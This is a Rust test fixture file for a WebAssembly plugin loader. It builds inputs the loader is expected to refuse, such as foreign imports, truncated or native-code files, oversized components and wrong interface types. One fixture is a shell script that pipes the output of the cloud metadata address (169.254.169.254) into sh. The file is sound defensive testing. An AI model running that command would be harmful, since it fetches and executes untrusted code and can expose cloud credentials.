//! Files that are no plugins, and components that are none of ours.

use super::Hostile;
use crate::guest::Guest;

const NO_COMPONENT: &str = "plugin-not-a-component";
const WRONG: &str = "plugin-wrong-interface";

pub(super) fn entries() -> Vec<Hostile> {
    let mut entries = importing_ones();
    entries.extend(no_components());
    entries.extend(other_interfaces());
    entries
}

fn importing_ones() -> Vec<Hostile> {
    vec![
        Hostile::refused(
            "wasi-import",
            "asks for the environment by way of WASI",
            ("plugin-foreign-import", "wasi:cli/environment@0.2.0"),
            || importing("wasi:cli/environment@0.2.0"),
        ),
        Hostile::refused(
            "foreign-import",
            "asks for a socket of the host's",
            ("plugin-foreign-import", "acme:tools/socket@1.0.0"),
            || importing("acme:tools/socket@1.0.0"),
        ),
        Hostile::refused(
            "look-alike-import",
            "asks for an interface whose package almost has our name",
            ("plugin-foreign-import", "wharf:providers/log@1.0.0"),
            || importing("wharf:providers/log@1.0.0"),
        ),
    ]
}

fn no_components() -> Vec<Hostile> {
    vec![
        Hostile::refused(
            "core-module",
            "is a module, without the types that bound it",
            (NO_COMPONENT, "core WebAssembly module"),
            || Guest::new().build_core_module(),
        ),
        Hostile::refused(
            "truncated",
            "ends in the middle",
            (NO_COMPONENT, "not a valid component"),
            truncated,
        ),
        Hostile::refused(
            "native-code",
            "is native code that would run without a sandbox",
            (NO_COMPONENT, "precompiled native code"),
            native_code,
        ),
        Hostile::refused(
            "shell-script",
            "is no WebAssembly at all",
            (NO_COMPONENT, "not WebAssembly"),
            || b"#!/bin/sh\ncurl http://169.254.169.254/ | sh\n".to_vec(),
        ),
        Hostile::refused(
            "giant-file",
            "is so large that compiling it would take minutes",
            (NO_COMPONENT, "component_bytes_max"),
            giant,
        ),
        Hostile::refused(
            "wide-memory",
            "uses memory of 64 bits, whose checks are others",
            (NO_COMPONENT, "not a valid component"),
            || component("(component (core module (memory i64 1)))"),
        ),
    ]
}

fn other_interfaces() -> Vec<Hostile> {
    vec![
        Hostile::refused(
            "other-version",
            "speaks a version of the interface that nobody vetted",
            (WRONG, "@2.0.0"),
            || {
                let mut guest = Guest::new();
                guest.version = "2.0.0";
                guest.build()
            },
        ),
        Hostile::refused(
            "missing-export",
            "cannot read webhooks",
            (WRONG, "wharf:provider/inbound@1.0.0"),
            || {
                let mut guest = Guest::new();
                guest.exports.retain(|name| *name != "inbound");
                guest.build()
            },
        ),
        Hostile::refused(
            "other-types",
            "exports the right names with other types behind them",
            (WRONG, "has another type than the interface says"),
            other_types,
        ),
        Hostile::refused(
            "initial-memory",
            "wants more memory than a call may have before it runs",
            ("plugin-needs-too-much", "bytes of memory"),
            || {
                let mut guest = Guest::new();
                guest.pages = 600;
                guest.build()
            },
        ),
        Hostile::refused(
            "initial-table",
            "wants a table of a million elements before it runs",
            ("plugin-needs-too-much", "table"),
            || {
                let mut guest = Guest::new();
                guest.items = "(table $wide 1000000 funcref)".to_owned();
                guest.build()
            },
        ),
    ]
}

fn component(text: &str) -> Vec<u8> {
    wat::parse_str(text).unwrap()
}

fn importing(import: &str) -> Vec<u8> {
    component(&format!(r#"(component (import "{import}" (instance)))"#))
}

fn truncated() -> Vec<u8> {
    let mut whole = Guest::new().build();
    whole.truncate(whole.len() / 2);
    whole
}

/// A compiled plugin is an ELF file; its head is what gives it away.
fn native_code() -> Vec<u8> {
    let mut file = b"\x7fELF\x02\x01\x01".to_vec();
    file.resize(4096, 0);
    file
}

/// A custom section of 9 MiB behind an honest plugin.
fn giant() -> Vec<u8> {
    const BYTES: u32 = 9 << 20;
    let mut bytes = Guest::new().build();
    bytes.push(0);
    // The section's size in LEB128, in four bytes.
    let size = BYTES + 2;
    for shift in [0, 7, 14] {
        bytes.push(u8::try_from(size >> shift & 0x7f).unwrap() | 0x80);
    }
    bytes.push(u8::try_from(size >> 21).unwrap());
    bytes.extend([1, b'x']);
    bytes.resize(bytes.len() + BYTES as usize, 0);
    bytes
}

fn other_types() -> Vec<u8> {
    component(
        r#"(component
            (core module $m (func (export "f")))
            (core instance $i (instantiate $m))
            (func $f (canon lift (core func $i "f")))
            (instance $manifest (export "describe" (func $f)))
            (instance $outbound (export "start" (func $f)) (export "resume" (func $f)))
            (instance $inbound (export "parse" (func $f)))
            (export "wharf:provider/manifest@1.0.0" (instance $manifest))
            (export "wharf:provider/outbound@1.0.0" (instance $outbound))
            (export "wharf:provider/inbound@1.0.0" (instance $inbound)))"#,
    )
}
